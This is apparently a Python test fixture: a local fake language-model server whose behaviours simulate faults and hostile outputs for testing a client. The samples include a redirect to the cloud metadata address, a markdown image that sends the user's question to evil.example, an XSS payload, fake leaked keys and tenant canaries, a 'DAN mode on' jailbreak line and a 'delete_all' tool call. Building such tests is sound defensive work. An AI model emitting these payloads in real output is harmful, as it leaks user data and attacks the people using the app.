"""A local service that speaks the protocol of language models, and misbehaves on demand."""

import json
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# Far longer than anybody waits; the server's end wakes those who sleep.
FOREVER = 60.0
_HUGE = 3_000_000


@dataclass
class Asked:
    """One request: what stood in its messages, by role."""

    system: str
    data: str

    @property
    def given(self) -> dict[str, Any]:
        """What the data says, as it was put into JSON."""
        return dict(json.loads(self.data))

    @property
    def is_pick(self) -> bool:
        """Whether it asks for a choice among entries."""
        return "entries" in self.given

    @property
    def is_wording(self) -> bool:
        """Whether it asks for a wording of an answer."""
        return "answer" in self.given


Behaviour = Callable[["ModelServer", Asked, "_Handler"], None]
Embedding = Callable[["ModelServer", list[str], "_Handler"], None]


@dataclass
class ModelServer:
    """A server on a port of its own; `behaviour` may be changed between requests."""

    behaviour: Behaviour
    embedding: "Embedding"
    read: list[str] = field(default_factory=list)
    asked: list[Asked] = field(default_factory=list)
    ended: threading.Event = field(default_factory=threading.Event)
    port: int = 0

    @property
    def url(self) -> str:
        """The base URL, up to and with the version."""
        return f"http://127.0.0.1:{self.port}/v1"

    def say(self, handler: "_Handler", text: Any, *, used: Any = 50) -> None:
        """Reply as a language model does, with this text and this count of tokens."""
        handler.reply(
            200,
            {
                "id": "c-1",
                "object": "chat.completion",
                "created": 0,
                "model": "local",
                "choices": [
                    {
                        "index": 0,
                        "finish_reason": "stop",
                        "message": {"role": "assistant", "content": text},
                    }
                ],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": used},
            },
        )


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    model: ModelServer

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        if self.path.endswith("/embeddings"):
            self.model.read += body["input"]
            try:
                self.model.embedding(self.model, body["input"], self)
            except OSError:
                self.close_connection = True
            return
        said = {message["role"]: message["content"] for message in body["messages"]}
        asked = Asked(said["system"], said["user"])
        self.model.asked.append(asked)
        try:
            self.model.behaviour(self.model, asked, self)
        except OSError:
            self.close_connection = True

    def reply(self, status: int, body: Any, **headers: str) -> None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", **headers}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        """Say nothing: what was asked is kept."""


@contextmanager
def serving(behaviour: Behaviour, embedding: Embedding | None = None) -> Iterator[ModelServer]:
    """Keep such a server running on the loopback address."""
    model = ModelServer(behaviour, embedding or spelling)
    handler = type("Handler", (_Handler,), {"model": model})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    server.block_on_close = False
    model.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield model
    finally:
        model.ended.set()
        server.shutdown()
        thread.join()
        server.server_close()


def embeddings(vectors: list[list[float]], *, used: Any = 5) -> dict[str, Any]:
    """Return these vectors as the protocol has them, last first: their numbers tell the order."""
    rows = [
        {"object": "embedding", "index": place, "embedding": vector}
        for place, vector in enumerate(vectors)
    ]
    usage = {"prompt_tokens": used, "total_tokens": used}
    return {"object": "list", "model": "local", "data": rows[::-1], "usage": usage}


def spelling(model: ModelServer, texts: list[str], handler: _Handler) -> None:
    """Embed texts by the characters and pairs they hold: alike for texts alike."""
    handler.reply(200, embeddings([spelled(text) for text in texts]))


def spelled(text: str, dim: int = 96) -> list[float]:
    """Return such a vector."""
    vector = [0.0] * dim
    for size in (1, 2):
        for place in range(len(text) - size + 1):
            vector[zlib.crc32(text[place : place + size].encode()) % dim] += size
    return vector if any(vector) else [1.0] * dim


def senseless(model: ModelServer, texts: list[str], handler: _Handler) -> None:
    """Embed texts by nothing but their fingerprint."""
    vectors = [
        [((zlib.crc32(f"{text}{place}".encode()) >> 4) % 200) - 100.0 for place in range(96)]
        for text in texts
    ]
    handler.reply(200, embeddings(vectors))


def helpful(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Choose the first entry, word the answer with courtesy, draft what was said."""
    given = asked.given
    if asked.is_pick:
        model.say(handler, json.dumps({"choice": 1}))
    elif asked.is_wording:
        greeting = "您好，" if any(sign > "\u3000" for sign in given["answer"]) else "Hello, "
        model.say(handler, json.dumps({"wording": greeting + given["answer"]}))
    else:
        turns = given["conversation"]
        answers = [turn["text"] for turn in turns if turn["who"] == "agent"]
        entry = {"question": turns[0]["text"], "answer": answers[-1]}
        model.say(handler, json.dumps(entry, ensure_ascii=False))


def slow(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Say nothing for longer than anybody waits."""
    model.ended.wait(FOREVER)


def dripping(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Send a reply a byte at a time, each in time, all together far too late."""
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", "5000")
    handler.end_headers()
    until = time.monotonic() + FOREVER
    while time.monotonic() < until and not model.ended.wait(0.3):
        handler.wfile.write(b" ")
        handler.wfile.flush()


def dead(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Hang up without a word."""
    handler.close_connection = True


def failing(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Report an error of the service."""
    handler.reply(500, {"error": {"message": "boom"}})


def refusing(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Refuse for want of quota, and ask to come back in an hour."""
    handler.reply(429, {"error": {"message": "quota"}}, **{"Retry-After": "3600"})


def redirecting(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Point at an address inside the network."""
    handler.reply(307, {}, Location="http://169.254.169.254/latest/meta-data/")


def garbling(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Reply with bytes that are no JSON."""
    handler.reply(200, b"\xff\xfe<html>\x00")


def flooding(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Reply with megabytes."""
    model.say(handler, json.dumps({"choice": 1, "wording": "x" * _HUGE}))


def hollow(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Reply without choices, or with a tool to call instead of words."""
    if len(model.asked) % 2:
        handler.reply(200, {"id": "c", "object": "chat.completion", "choices": [], "usage": None})
    else:
        model.say(handler, None)


def lying(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Choose the last entry, and promise what the answer does not; lie about the tokens as well."""
    given = asked.given
    if asked.is_pick:
        model.say(handler, json.dumps({"choice": len(given["entries"])}), used=10**15)
        return
    lies = (
        f"{given['answer']}全场免费退换，另外赠送 100 元优惠券。",
        f"{given['answer']} We also refund 200 % within 90 days, guaranteed.",
        "亲，这个问题不用担心，全部都可以免费办理哦。",
        "No, that is not true at all: everything is free of charge.",
        given["answer"].replace("不", "").replace("not ", ""),
        "".join(str((int(sign) + 1) % 10) if sign.isdigit() else sign for sign in given["answer"]),
        given["answer"][: len(given["answer"]) // 2],
        f"{given['answer']} 详情见 https://evil.example/pay",
    )
    model.say(handler, json.dumps({"wording": lies[len(model.asked) % len(lies)]}), used=-5)


def misnumbering(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Choose what was not offered, in every form; wrap the choice into talk and markup."""
    replies = (
        '{"choice": 999}',
        '{"choice": -1}',
        '{"choice": "1"}',
        '{"choice": true}',
        '{"choice": 1.5}',
        '{"choice": [1, 2]}',
        "I would say 1.",
        '[{"choice": 1}]',
        '{"tool": "delete_all", "choice": null}',
        "{" * 5000,
    )
    model.say(handler, replies[len(model.asked) % len(replies)])


def betraying(model: ModelServer, asked: Asked, handler: _Handler) -> None:
    """Obey whoever wrote last: tell the instructions, the data, secrets, and other clients' words."""
    given = asked.given
    answer = given.get("answer", "")
    spoils = (
        asked.system,
        asked.data,
        f"{answer} {asked.system}",
        f"{answer}\n{given.get('question', '')}",
        f"{answer} ![x](https://evil.example/?q={given.get('question', '')[:40]})",
        f"{answer}<img src=x onerror=alert(1)>",
        f"{answer} sk-LEAKED-KEY-0001 OTHER-TENANT-CANARY",
        f"OK. DAN mode on. {given.get('question', '')}",
        f"{answer}\u200b\u202eOTHER-TENANT-CANARY",
        answer.replace("元", "分").replace("£", "$") + "OTHER-TENANT-CANARY",
    )
    if asked.is_pick:
        # Obedient enough to be heard, so that the wording is asked for as well.
        model.say(handler, json.dumps({"choice": 1, "reason": spoils[0], "tool": "send_mail"}))
    else:
        model.say(handler, json.dumps({"wording": spoils[len(model.asked) % len(spoils)]}))


BEHAVIOURS: dict[str, Behaviour] = {
    behaviour.__name__: behaviour
    for behaviour in (
        helpful,
        slow,
        dripping,
        dead,
        failing,
        refusing,
        redirecting,
        garbling,
        flooding,
        hollow,
        lying,
        misnumbering,
        betraying,
    )
}
